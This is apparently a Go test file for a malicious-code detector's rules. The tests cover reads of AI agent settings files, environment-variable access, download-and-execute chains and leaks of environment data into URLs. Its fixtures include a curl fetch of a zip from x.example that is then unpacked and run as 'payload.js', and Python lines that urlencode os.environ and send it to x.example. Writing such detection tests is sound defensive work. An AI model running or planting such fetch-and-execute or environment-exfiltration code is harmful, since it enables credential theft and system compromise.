package rules

import "testing"

func TestProfilePathAgentSettings(t *testing.T) {
	for s, want := range map[string]bool{
		`path.join(os.homedir(), '.claude', 'settings.json')`: true,
		`Path.home() / ".gemini" / "settings.json"`:           true,
		`"$HOME/.codex/config.toml"`:                          true,
		`path.join(os.homedir(), '.cursor', 'mcp.json')`:      true,
		`path.join('out', 'agent.json')`:                      false,
		`"settings.json"`:                                     false,
	} {
		if got := ProfilePath(s); got != want {
			t.Errorf("ProfilePath(%s) = %v, want %v", s, got, want)
		}
	}
}

func TestPicksOnly(t *testing.T) {
	isEnv := func(n string) bool { return n == "env" }
	for s, want := range map[string]bool{
		`env.get("GITHUB_TOKEN", "")`: true,
		`env["HOME"]`:                 true,
		`urlencode(env)`:              false,
		`env.get("A") + str(env)`:     false,
		`other.get("A")`:              false,
	} {
		if got := PicksOnly(s, isEnv); got != want {
			t.Errorf("PicksOnly(%s) = %v, want %v", s, got, want)
		}
	}
}

func TestRuntimeRuns(t *testing.T) {
	run := []UnitLine{
		{N: 1, Text: "const bun = join(dir, 'bun');", Added: true},
		{N: 2, Text: "execFileSync('sh', ['-c', `curl -fsSL https://x.example/b.zip -o ${dir}/b.zip && unzip -oq ${dir}/b.zip -d ${dir}`]);", Added: true},
		{N: 3, Text: "execFileSync('chmod', ['+x', bun]);", Added: true},
		{N: 4, Text: "execFileSync(bun, ['payload.js']);", Added: true},
	}
	got := RuntimeRuns(run)
	if len(got) != 1 || got[0].Sink != 4 || got[0].Source != 2 {
		t.Errorf("RuntimeRuns = %+v, want one run on line 4 from line 2", got)
	}
	if got := RuntimeRuns(run[2:]); len(got) != 0 {
		t.Errorf("without the download: %+v", got)
	}
}

func TestURLCarriesEnv(t *testing.T) {
	unit := []UnitLine{
		{N: 1, Text: "        self._report(dict(os.environ))"},
		{N: 2, Text: "    def _report(values):"},
		{N: 3, Text: "        q = urllib.parse.urlencode(values)"},
		{N: 4, Text: `        token = values.get("GITHUB_TOKEN")`},
	}
	held := envCarriers(unit, leaveRe().bulk, leaveRe().childEnv)
	if n := urlCarriesEnv(`urllib.request.urlopen("https://x.example/log?" + q)`, held); n != 1 {
		t.Errorf("query built from the environment: source %d, want 1", n)
	}
	if n := urlCarriesEnv(`requests.get(url, headers={"Authorization": "Bearer " + token})`, held); n != 0 {
		t.Errorf("one value as the request's credential: source %d, want 0", n)
	}
}

func TestCompilerSeat(t *testing.T) {
	if !CompilerSeat("rustc-wrapper") || CompilerSeat("linker") || CompilerSeat("runner") {
		t.Error("the compiler's seat is rustc and its wrappers, not the linker or the runner")
	}
	if !CompilesSource("\t$(CC) $(CFLAGS) -o app main.c build/vendor/crc.c") || CompilesSource("\tcurl -o build/crc.c https://x") {
		t.Error("CompilesSource")
	}
}
